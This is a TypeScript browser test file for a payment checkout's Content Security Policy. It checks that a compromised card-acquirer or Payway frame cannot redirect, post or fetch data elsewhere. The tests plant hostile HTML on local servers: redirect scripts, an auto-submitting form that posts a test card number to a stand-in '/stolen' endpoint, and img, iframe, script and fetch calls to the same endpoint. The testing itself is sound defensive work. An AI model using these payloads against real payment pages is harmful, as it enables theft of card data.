import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, test, vi } from 'vitest';
import { type Played, playConnector } from '../connectors/played.ts';
import { launchBrowser } from '../harness/browser.ts';
import { keptCardBody, signingUrl } from '../harness/builders/mandates.ts';
import { startService, type TestService } from '../harness/service.ts';
import { create, openChannel, visa } from './payer.ts';
import { openPaywayPages } from './payway-pages.ts';

vi.setConfig({ testTimeout: 60_000, hookTimeout: 60_000 });

interface Reply {
  status?: number;
  headers?: Record<string, string>;
  html?: string;
}

interface Site {
  origin: string;
  /** Paths that were requested. */
  hits: string[];
  answers: (path: string) => Reply;
  stop(): Promise<void>;
}

/** Starts a server whose answers a test sets. */
async function openSite(): Promise<Site> {
  const hits: string[] = [];
  const server = createServer((request, response) => {
    const path = new URL(request.url ?? '', 'http://site').pathname;
    if (path !== '/favicon.ico') hits.push(path);
    request.resume();
    const { status = 200, headers = {}, html = '' } = site.answers(path);
    response.writeHead(status, { 'content-type': 'text/html; charset=utf-8', ...headers });
    response.end(html);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  const site: Site = {
    origin: `http://127.0.0.1:${port}`,
    hits,
    answers: () => ({}),
    stop: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
  return site;
}

let browser: Browser;
let acquirer: Site;
let elsewhere: Site;
beforeAll(async () => {
  [browser, acquirer, elsewhere] = await Promise.all([launchBrowser(), openSite(), openSite()]);
});
afterAll(async () => {
  await browser?.close();
  await Promise.all([acquirer?.stop(), elsewhere?.stop()]);
});
afterEach(() => {
  acquirer.answers = () => ({});
  for (const { hits } of [acquirer, elsewhere]) hits.length = 0;
});

/** Resolves once Chromium reports a violation of this rule. */
const violation = (page: Page, rule: string): Promise<unknown> =>
  page.waitForEvent('console', (message) => {
    const text = message.text();
    return text.includes('Content Security Policy') && text.includes(rule);
  });

describe('an acquirer’s frame made to navigate elsewhere', () => {
  let played: Played;
  let service: TestService;
  beforeAll(async () => {
    const { origin } = acquirer;
    const way = { kind: 'frame', url: `${origin}/card`, origin };
    played = await playConnector('acquirer', [
      { channel: 'credit_card', browser: way, keeps_cards: true },
    ]);
    service = await startService({
      ROLES: 'payments,web',
      CONNECTORS: JSON.stringify([played.configured()]),
    });
  });
  afterAll(async () => {
    await service?.stop();
    await played?.stop();
  });

  const ways: [string, (to: string) => Reply][] = [
    ['a script', (to) => ({ html: `<script>location = '${to}'</script>` })],
    [
      'a form',
      (to) => ({
        html: `<form action="${to}" method="post"><input name="number" value="${visa}"></form>
          <script>document.forms[0].submit()</script>`,
      }),
    ],
    ['a refresh', (to) => ({ html: `<meta http-equiv="refresh" content="0;url=${to}">` })],
    ['a redirect', (to) => ({ status: 302, headers: { location: to } })],
  ];
  test.each(ways)(
    'stops a frame from navigating elsewhere by %s, through the checkout’s policy',
    async (_how, plant) => {
      acquirer.answers = () => plant(`${elsewhere.origin}/stolen`);
      // Outside the checkout the navigation succeeds, which proves that the planted content works.
      const alone = await browser.newPage();
      await alone.goto(`${acquirer.origin}/card`);
      await expect.poll(() => elsewhere.hits).toContain('/stolen');
      await alone.close();
      elsewhere.hits.length = 0;

      const page = await browser.newPage();
      const stopped = violation(page, `frame-src ${acquirer.origin}`);
      await page.goto(service.origin + (await create(service)).path);
      await openChannel(page, 'credit_card');
      await stopped;
      expect(acquirer.hits).toContain('/card');
      expect(elsewhere.hits).toEqual([]);
      expect(new URL(page.url()).origin).toBe(service.origin);
      await page.close();
    },
  );

  test('stops a frame from navigating elsewhere, through the signing page’s policy', async () => {
    const made = await service.call('POST', '/card-adhesion', { body: keptCardBody() });
    expect(made.status, made.text).toBe(201);
    acquirer.answers = () => ({ html: `<script>location = '${elsewhere.origin}/stolen'</script>` });
    const page = await browser.newPage();
    const stopped = violation(page, `frame-src ${acquirer.origin}`);
    await page.goto(signingUrl(service, 'card_adhesion', made.body.id));
    await stopped;
    expect(acquirer.hits).toContain('/card');
    expect(elsewhere.hits).toEqual([]);
    await page.close();
  });
});

test('redirects a submitted form only to origins that its page’s policy allows', async () => {
  const back = await openSite();
  try {
    const policy = `default-src 'none'; form-action 'self' ${back.origin}`;
    const form = '<form action="/typed" method="post"><button>Pagar</button></form>';
    let target = `${back.origin}/checkout`;
    acquirer.answers = (path) =>
      path === '/typed'
        ? { status: 303, headers: { location: target } }
        : { html: form, headers: { 'content-security-policy': policy } };
    const page = await browser.newPage({ javaScriptEnabled: false });
    await page.goto(acquirer.origin);
    await page.click('button');
    await page.waitForURL(target);
    target = `${elsewhere.origin}/stolen`;
    await page.goto(acquirer.origin);
    const stopped = violation(page, 'form-action');
    await page.click('button', { noWaitAfter: true });
    await stopped;
    expect(acquirer.hits.filter((path) => path === '/typed')).toHaveLength(2);
    expect(elsewhere.hits).toEqual([]);
    await page.close();
  } finally {
    await back.stop();
  }
});

test('keeps content planted in Payway’s frame from sending anything elsewhere', async () => {
  const pages = await openPaywayPages();
  try {
    const { service } = pages;
    const page = await browser.newPage();
    const to = `${elsewhere.origin}/stolen`;
    // Simulates a vulnerability in the frame's page. The policy is the connector's own.
    await page.route(
      (url) => url.pathname === '/frame',
      async (route) => {
        const response = await route.fetch();
        const planted = `<form action="${to}" method="post" target="_top">
          <input name="number" value="${visa}"><button id="planted">Pagar</button></form>
          <img src="${to}" alt=""><iframe src="${to}"></iframe>
          <script>location = '${to}'</script><script src="${to}"></script>`;
        const text = await response.text();
        await route.fulfill({ response, body: text.replace('</body>', `${planted}</body>`) });
      },
    );
    const told: string[] = [];
    page.on('console', (message) => told.push(message.text()));
    await page.goto(service.origin + (await create(service)).path);
    await openChannel(page, 'credit_card');
    const frame = page.frameLocator('#channel-credit_card iframe');
    const fetched = await frame.locator('#planted').evaluate(
      (_button, url) =>
        fetch(url).then(
          () => 'sent',
          () => 'stopped',
        ),
      to,
    );
    expect(fetched).toBe('stopped');
    await frame.locator('#planted').click({ noWaitAfter: true });
    for (const rule of ['Framing', 'img-src', 'script-src', 'form-action', 'connect-src']) {
      await expect
        .poll(() => told.join('\n'))
        .toMatch(new RegExp(`${rule}.*Content Security|Content Security.*${rule}`));
    }
    expect(elsewhere.hits).toEqual([]);
    expect(new URL(page.url()).origin).toBe(service.origin);
    await page.close();
  } finally {
    await pages.stop();
  }
});
